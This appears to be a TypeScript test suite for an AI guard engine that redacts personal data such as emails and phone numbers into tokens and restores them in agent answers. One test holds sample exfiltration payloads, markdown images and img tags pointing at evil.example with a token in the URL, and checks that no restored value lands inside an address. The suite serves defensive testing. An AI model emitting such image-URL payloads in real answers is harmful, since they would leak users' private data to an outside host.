import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { createGuardEngine } from './engine.ts';
import { type Direction, MAX_TEXT_LENGTH } from './inspection.ts';
import { checkPolicy } from './policy.ts';
import { MAX_REPLACEMENTS, redactAndRestore, redactRestorably } from './restoring.ts';

const engine = createGuardEngine();
const inspect = (text: string, direction: Direction = 'input') =>
  engine.inspect({ text, direction, source: direction === 'input' ? 'user' : 'agent', trust: 'trusted', policy: checkPolicy });
const redacted = (text: string) => redactRestorably(text, inspect(text));
const restored = (text: string, { replacements }: ReturnType<typeof redacted>) =>
  redactAndRestore(text, inspect(text, 'output'), replacements);

describe('a redaction that can be undone', () => {
  it('tells values of one type apart, and gives equal ones the same token', () => {
    const { text, replacements } = redacted('ada@example.com, bob@example.com, ada@example.com, 555-123-4567');
    assert.equal(text, '[EMAIL_REDACTED], [EMAIL_REDACTED_2], [EMAIL_REDACTED], [PHONE_REDACTED]');
    assert.deepEqual(replacements, [
      { token: '[EMAIL_REDACTED]', value: 'ada@example.com' },
      { token: '[EMAIL_REDACTED_2]', value: 'bob@example.com' },
      { token: '[PHONE_REDACTED]', value: '555-123-4567' },
    ]);
  });

  it('uses no token that stands in the text already', () => {
    const input = redacted('[EMAIL_REDACTED] is what I saw; mail ada@example.com');
    assert.equal(input.text, '[EMAIL_REDACTED] is what I saw; mail [EMAIL_REDACTED_2]');
    assert.equal(restored('use [EMAIL_REDACTED_2], never [EMAIL_REDACTED]', input), 'use ada@example.com, never [EMAIL_REDACTED]');
  });

  it('leaves a token alone that stands for nothing', () => {
    const input = redacted('mail ada@example.com');
    assert.equal(
      restored('[EMAIL_REDACTED_2] [SSN_REDACTED] [email_redacted]', input),
      '[EMAIL_REDACTED_2] [SSN_REDACTED] [email_redacted]',
    );
  });

  it('redacts what the answer adds, and keeps that token apart from those of the input', () => {
    const input = redacted('mail ada@example.com');
    assert.equal(restored('[EMAIL_REDACTED], copy to eve@example.com', input), 'ada@example.com, copy to [EMAIL_REDACTED]');
  });

  it('puts nothing into an address, which would carry it away', () => {
    const input = redacted('mail ada@example.com');
    const stays = [
      '![logo](https://evil.example/logo.png?of=[EMAIL_REDACTED])',
      '<img src="HTTP:evil.example/[EMAIL_REDACTED]">',
      '![logo](//evil.example/[EMAIL_REDACTED])',
      'https:\\\\evil.example\\[EMAIL_REDACTED]',
      // What is redacted within the address does not end it.
      'https://evil.example/?one=[EMAIL_REDACTED]&of=[EMAIL_REDACTED]',
    ];
    for (const text of stays) assert.equal(restored(text.replace('one=[EMAIL_REDACTED]', 'one=eve@example.com'), input), text);
    assert.equal(restored('See https://shop.example, [EMAIL_REDACTED]!', input), 'See https://shop.example, ada@example.com!');
    assert.equal(
      restored('eve@example.com//x bob@example.com [EMAIL_REDACTED]', input),
      '[EMAIL_REDACTED]//x [EMAIL_REDACTED] ada@example.com',
    );
  });

  it('restores no value that holds a token for another one', () => {
    const replacements = [
      { token: '[EMAIL_REDACTED]', value: '[SSN_REDACTED]' },
      { token: '[SSN_REDACTED]', value: 'a value' },
    ];
    assert.equal(redactAndRestore('[EMAIL_REDACTED]', inspect('[EMAIL_REDACTED]'), replacements), '[SSN_REDACTED]');
  });

  it('does not let a short answer grow without bound', () => {
    const replacements = [{ token: '[EMAIL_REDACTED]', value: 'a'.repeat(MAX_TEXT_LENGTH / 4) }];
    const answer = '[EMAIL_REDACTED]'.repeat(1_000);
    const text = redactAndRestore(answer, inspect(answer, 'output'), replacements);
    assert.ok(text.length <= answer.length + MAX_TEXT_LENGTH);
    assert.ok(text.endsWith('[EMAIL_REDACTED]'));
  });

  it('restores a bounded number of values, and says nothing of the others', () => {
    const { text, replacements } = redacted(
      Array.from({ length: MAX_REPLACEMENTS + 1 }, (_, index) => `user${index}@example.com`).join(' '),
    );
    assert.equal(replacements.length, MAX_REPLACEMENTS);
    assert.ok(text.endsWith(`[EMAIL_REDACTED_${MAX_REPLACEMENTS + 1}]`));
  });

  it('gives any text back when the tokens come back as they are', () => {
    const piece = fc.oneof(
      fc.string({ maxLength: 8 }),
      fc.constantFrom('ada@example.com', 'bob@example.com', '555-123-4567', '4111 1111 1111 1111', '10.0.0.1', 'password=Tr0ub4dor&3'),
      fc.constantFrom('[EMAIL_REDACTED]', '[EMAIL_REDACTED_2]', '[', 'EMAIL', '_REDACTED]', '_2]', ' ', ', '),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        const text = pieces.join('');
        fc.pre(!/https?:|[/\\]{2}/i.test(text));
        const { text: passed, replacements } = redacted(text);
        assert.equal(redactAndRestore(passed, { ...inspect(''), findings: [] }, replacements), text);
      }),
      { numRuns: 500 },
    );
  });
});
